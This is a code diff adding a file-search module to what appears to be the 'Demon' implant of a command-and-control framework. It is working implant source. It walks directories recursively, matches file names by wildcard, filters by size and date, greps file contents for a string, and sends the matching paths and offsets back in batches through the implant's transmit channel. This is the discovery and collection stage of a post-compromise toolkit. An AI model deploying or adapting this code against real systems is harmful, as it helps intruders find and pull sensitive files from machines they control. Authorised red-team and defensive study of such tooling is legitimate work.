@@ -0,0 +1,290 @@
+#include <Demon.h>
+#include <core/FileSearch.h>
+#include <core/MiniStd.h>
+#include <core/Package.h>
+#include <core/Command.h>
+#include <core/Memory.h>
+
+/*!
+ * Lowers an ascii character.
+ */
+static WCHAR FileSearchLower(
+    IN WCHAR C
+) {
+    if ( C >= L'A' && C <= L'Z' ) {
+        return C + ( L'a' - L'A' );
+    }
+
+    return C;
+}
+
+/*!
+ * Matches the name against the wildcard pattern (* and ?), ignoring the case.
+ * @param Pattern pattern to match
+ * @param Name name of the file
+ * @return if the name matches
+ */
+static BOOL FileSearchWildcard(
+    IN PWCHAR Pattern,
+    IN PWCHAR Name
+) {
+    PWCHAR Star  = NULL;
+    PWCHAR Retry = NULL;
+
+    while ( *Name ) {
+        if ( *Pattern == L'*' ) {
+            /* remember where to continue if the rest doesn't match */
+            Star  = ++Pattern;
+            Retry = Name;
+        } else if ( *Pattern == L'?' || FileSearchLower( *Pattern ) == FileSearchLower( *Name ) ) {
+            Pattern++;
+            Name++;
+        } else if ( Star ) {
+            Pattern = Star;
+            Name    = ++Retry;
+        } else {
+            return FALSE;
+        }
+    }
+
+    while ( *Pattern == L'*' ) {
+        Pattern++;
+    }
+
+    return *Pattern == 0;
+}
+
+/*!
+ * Searches the content of the file for the grep of the search.
+ * @param Search search the file is matched for
+ * @param Path path of the file
+ * @return offset of the first match, -1 if there is none
+ */
+static INT64 FileSearchGrep(
+    IN PFILESEARCH Search,
+    IN PWCHAR      Path
+) {
+    HANDLE File    = NULL;
+    PBYTE  Buffer  = NULL;
+    DWORD  Read    = 0;
+    DWORD  Kept    = 0;
+    INT64  Offset  = 0;
+    INT64  Found   = -1;
+
+    File = Instance->Win32.CreateFileW( Path, GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, NULL, OPEN_EXISTING, 0, NULL );
+    if ( ( ! File ) || ( File == INVALID_HANDLE_VALUE ) ) {
+        Search->Denied++;
+        return -1;
+    }
+
+    if ( ! ( Buffer = MmHeapAlloc( FILESEARCH_GREP_BLOCK + Search->GrepSize ) ) ) {
+        SysNtClose( File );
+        return -1;
+    }
+
+    /* the end of the previous block is kept in front of the next one,
+     * so a match spanning both blocks isn't missed */
+    while ( Offset < FILESEARCH_GREP_MAX && Instance->Win32.ReadFile( File, Buffer + Kept, FILESEARCH_GREP_BLOCK, &Read, NULL ) && Read )
+    {
+        DWORD Size = Kept + Read;
+
+        for ( DWORD i = 0; i + Search->GrepSize <= Size; i++ )
+        {
+            DWORD j = 0;
+
+            while ( j < Search->GrepSize && FileSearchLower( Buffer[ i + j ] ) == FileSearchLower( Search->Grep[ j ] ) ) {
+                j++;
+            }
+
+            if ( j == Search->GrepSize ) {
+                Found = Offset - Kept + i;
+                break;
+            }
+        }
+
+        if ( Found >= 0 ) {
+            break;
+        }
+
+        Offset += Read;
+        Kept    = MIN( Size, Search->GrepSize - 1 );
+
+        MemCopy( Buffer, Buffer + Size - Kept, Kept );
+    }
+
+    SysNtClose( File );
+
+    MemZero( Buffer, FILESEARCH_GREP_BLOCK + Search->GrepSize );
+    MmHeapFree( Buffer );
+
+    return Found;
+}
+
+/*!
+ * Sends the matches of the batch and starts a new one.
+ * @param Search search to send the matches of
+ */
+static VOID FileSearchFlush(
+    IN PFILESEARCH Search
+) {
+    if ( Search->Package ) {
+        PackageTransmit( Search->Package );
+    }
+
+    Search->Package = PackageCreate( DEMON_COMMAND_FILESEARCH );
+    Search->Batch   = 0;
+
+    PackageAddWString( Search->Package, Search->Path );
+}
+
+/*!
+ * Adds the file to the matches if it passes the filters of the search.
+ * @param Search search to match the file for
+ * @param Path path of the file
+ * @param Data find data of the file
+ */
+static VOID FileSearchFile(
+    IN PFILESEARCH       Search,
+    IN PWCHAR            Path,
+    IN PWIN32_FIND_DATAW Data
+) {
+    INT64 Size     = ( ( INT64 ) Data->nFileSizeHigh << 32 ) | Data->nFileSizeLow;
+    INT64 Modified = ( ( INT64 ) Data->ftLastWriteTime.dwHighDateTime << 32 ) | Data->ftLastWriteTime.dwLowDateTime;
+    INT64 Offset   = -1;
+    BOOL  Matched  = Search->PatternCount == 0;
+
+    for ( UINT32 i = 0; i < Search->PatternCount && ! Matched; i++ ) {
+        Matched = FileSearchWildcard( Search->Patterns[ i ], Data->cFileName );
+    }
+
+    if ( ( ! Matched ) ||
+         ( Search->MinSize && Size < Search->MinSize ) ||
+         ( Search->MaxSize && Size > Search->MaxSize ) ||
+         ( Search->After   && Modified < Search->After ) ||
+         ( Search->Before  && Modified > Search->Before ) ) {
+        return;
+    }
+
+    /* the content is only read once everything else matched */
+    if ( Search->GrepSize && ( Offset = FileSearchGrep( Search, Path ) ) < 0 ) {
+        return;
+    }
+
+    if ( Search->Batch == FILESEARCH_BATCH ) {
+        FileSearchFlush( Search );
+    }
+
+    PackageAddInt32( Search->Package, FILESEARCH_ITEM_MATCH );
+    PackageAddWString( Search->Package, Path );
+    PackageAddInt64( Search->Package, Size );
+    PackageAddInt64( Search->Package, Modified );
+    PackageAddInt32( Search->Package, Data->dwFileAttributes );
+    PackageAddInt64( Search->Package, Offset );
+
+    Search->Batch++;
+    Search->Matches++;
+}
+
+/*!
+ * Searches the directory and its subdirectories up to the depth.
+ * @param Search search to run
+ * @param Path path of the directory. has room for FILESEARCH_MAX_PATH characters
+ * @param Length length of the path
+ * @param Depth subdirectories that may still be entered
+ */
+static VOID FileSearchDirectory(
+    IN PFILESEARCH Search,
+    IN PWCHAR      Path,
+    IN SIZE_T      Length,
+    IN UINT32      Depth
+) {
+    WIN32_FIND_DATAW Data   = { 0 };
+    HANDLE           Find   = NULL;
+    SIZE_T           Name   = 0;
+
+    if ( Length && Path[ Length - 1 ] != L'\\' ) {
+        Path[ Length++ ] = L'\\';
+    }
+
+    Path[ Length ]     = L'*';
+    Path[ Length + 1 ] = 0;
+
+    if ( ( Find = Instance->Win32.FindFirstFileW( Path, &Data ) ) == INVALID_HANDLE_VALUE ) {
+        Search->Denied++;
+        return;
+    }
+
+    Search->Dirs++;
+
+    do {
+        if ( Search->MaxMatches && Search->Matches >= Search->MaxMatches ) {
+            break;
+        }
+
+        if ( StringCompareW( Data.cFileName, L"." ) == 0 || StringCompareW( Data.cFileName, L".." ) == 0 ) {
+            continue;
+        }
+
+        if ( ( Name = StringLengthW( Data.cFileName ) ) + Length + 2 >= FILESEARCH_MAX_PATH ) {
+            continue;
+        }
+
+        MemCopy( Path + Length, Data.cFileName, ( Name + 1 ) * sizeof( WCHAR ) );
+
+        if ( Data.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY ) {
+            /* junctions and symlinks can loop back to a parent */
+            if ( Depth && ! ( Data.dwFileAttributes & FILE_ATTRIBUTE_REPARSE_POINT ) ) {
+                FileSearchDirectory( Search, Path, Length + Name, Depth - 1 );
+            }
+        } else {
+            FileSearchFile( Search, Path, &Data );
+        }
+    } while ( Instance->Win32.FindNextFileW( Find, &Data ) );
+
+    Instance->Win32.FindClose( Find );
+}
+
+DWORD FileSearch(
+    IN PFILESEARCH Search
+) {
+    PWCHAR Path   = NULL;
+    SIZE_T Length = 0;
+    DWORD  Status = ERROR_SUCCESS;
+
+    FileSearchFlush( Search );
+
+    if ( ( Length = StringLengthW( Search->Path ) ) + 2 >= FILESEARCH_MAX_PATH ) {
+        Status = ERROR_FILENAME_EXCED_RANGE;
+        goto END;
+    }
+
+    if ( ! ( Path = MmHeapAlloc( FILESEARCH_MAX_PATH * sizeof( WCHAR ) ) ) ) {
+        Status = ERROR_NOT_ENOUGH_MEMORY;
+        goto END;
+    }
+
+    MemCopy( Path, Search->Path, Length * sizeof( WCHAR ) );
+
+    FileSearchDirectory( Search, Path, Length, Search->Depth );
+
+    /* the path itself couldn't be listed */
+    if ( ! Search->Dirs ) {
+        Status = NtGetLastError();
+    }
+
+    MmHeapFree( Path );
+
+END:
+    PRINTF( "FileSearch: Path:[%ls] Status:[%d] Dirs:[%d] Matches:[%d] Denied:[%d]\n", Search->Path, Status, Search->Dirs, Search->Matches, Search->Denied )
+
+    PackageAddInt32( Search->Package, FILESEARCH_ITEM_END );
+    PackageAddInt32( Search->Package, Status );
+    PackageAddInt32( Search->Package, Search->Dirs );
+    PackageAddInt32( Search->Package, Search->Matches );
+    PackageAddInt32( Search->Package, Search->Denied );
+
+    PackageTransmit( Search->Package );
+    Search->Package = NULL;
+
+    return Status;
+}